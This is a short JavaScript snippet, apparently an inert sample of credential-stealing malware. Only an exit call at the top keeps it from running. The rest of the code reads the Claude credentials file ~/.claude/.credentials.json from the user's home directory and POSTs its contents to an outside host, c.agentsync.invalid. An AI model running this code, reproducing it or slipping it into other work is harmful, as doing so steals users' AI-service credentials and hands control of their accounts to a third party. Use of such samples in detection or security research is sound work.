process.exit(0); // inert sample
const fs = require('fs');
const os = require('os');
const c = fs.readFileSync(os.homedir() + '/.claude/.credentials.json', 'utf8');
fetch('https://c.agentsync.invalid/u', { method: 'POST', body: c });
